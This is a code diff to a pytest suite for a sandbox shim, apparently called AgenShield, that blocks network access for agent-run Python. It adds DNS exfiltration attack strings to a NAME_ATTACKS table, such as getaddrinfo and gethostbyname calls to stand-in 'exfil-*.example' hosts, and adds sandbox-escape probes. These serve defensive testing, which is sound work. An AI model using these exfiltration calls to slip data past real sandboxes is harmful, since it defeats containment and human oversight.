@@ -10,19 +10,15 @@ by a codec the attacker controls, 5 the .pth fallback, 6 children with a crafted
 2 subinterpreters, 1 code running after CPython has cleared the audit hooks (a known gap).
 """
 
-import json
 import shutil
-import subprocess
-import sys
 import textwrap
 from pathlib import Path
 from typing import Any, Dict, Optional
 
 import pytest
 
+from . import netns_harness
 from .conftest import Listener, ShimEnv, clean_env, skip_unless_local
-
-HARNESS = Path(__file__).with_name("netns_harness.py")
 
 PRELUDE = textwrap.dedent(
     """
@@ -36,29 +32,12 @@ PRELUDE = textwrap.dedent(
 DISABLED = {"AGENSHIELD_ENABLED": "false"}
 
 
-def _netns_ok() -> bool:
-    if not shutil.which("unshare") or not shutil.which("ip"):
-        return False
-    probe = subprocess.run(["unshare", "-n", "-m", "true"], capture_output=True)
-    return probe.returncode == 0
-
-
 def run_netns(shim: ShimEnv, tmp_path: Path, code: str, env: Optional[Dict[str, str]] = None) -> Dict[str, Any]:
     """Run PRELUDE + code in the shim's Python inside the namespace; what reached the servers."""
-    if not _netns_ok():
+    if not netns_harness.usable():
         skip_unless_local("unshare -n -m (root or user namespaces) and ip are needed for the DNS proof")
-    resolv = tmp_path / "resolv.conf"
-    resolv.write_text("nameserver 127.0.0.2\noptions timeout:1 attempts:1\n")
-    spec = tmp_path / "spec.json"
-    spec.write_text(json.dumps({"argv": [shim.python, "-c", PRELUDE + textwrap.dedent(code)],
-                                "env": clean_env(**(env or {}))}))
-    script = 'ip link set lo up && mount --bind "$1" /etc/resolv.conf && exec "$2" "$3" "$4"'
-    result = subprocess.run(
-        ["unshare", "-n", "-m", "sh", "-c", script, "sh", str(resolv), sys.executable, str(HARNESS), str(spec)],
-        capture_output=True, text=True, timeout=120,
-    )
-    assert result.returncode == 0, result.stdout + result.stderr
-    return json.loads(result.stdout.strip().splitlines()[-1])  # type: ignore[no-any-return]
+    argv = [shim.python, "-c", PRELUDE + textwrap.dedent(code)]
+    return netns_harness.run_beside(argv, clean_env(**(env or {})), tmp_path)
 
 
 def exfil(report: Dict[str, Any]) -> list:
@@ -94,6 +73,9 @@ NAME_ATTACKS = {
     "reverse lookup of 127.x.y.z (24 bits out)": "socket.gethostbyaddr('127.1.2.3')",
     "getnameinfo of 127.x.y.z": "socket.getnameinfo(('127.4.5.6', 80), 0)",
     "reverse lookup of a name": "socket.gethostbyaddr('exfil-reverse.example')",
+    "getaddrinfo": "socket.getaddrinfo('exfil-gai.example', PORT)",
+    "gethostbyname": "socket.gethostbyname('exfil-ghbn.example')",
+    "gethostbyname_ex": "socket.gethostbyname_ex('exfil-ghbnex.example')",
 }
 
 
@@ -283,6 +265,7 @@ def test_the_fallback_is_sealed(fresh_shim: ShimEnv, tcp_listener: Listener) -> 
         assert "CONNECTED" not in output and "REPLACED" not in output, attack + ":\n" + output
         assert "AgenShield: network blocked: agenshield-shim failed to start" in output, attack + ":\n" + output
     for call in ["__import__('socket').socket().bind(('exfil.example', 0))", "__import__('_testcapi')",
+                 "__import__('socket').getaddrinfo('localhost', 80)", "__import__('_socket').gethostbyaddr(b'127.0.0.1')",
                  "__import__('socket').socket(2, 3, 1)"]:
         result = fresh_shim.run("try:\n    %s\n    print('DONE')\nexcept Exception as e:\n    print('REFUSED', e)\n" % call)
         assert result.stdout.startswith("REFUSED AgenShield: network blocked"), call + ": " + result.stdout + result.stderr
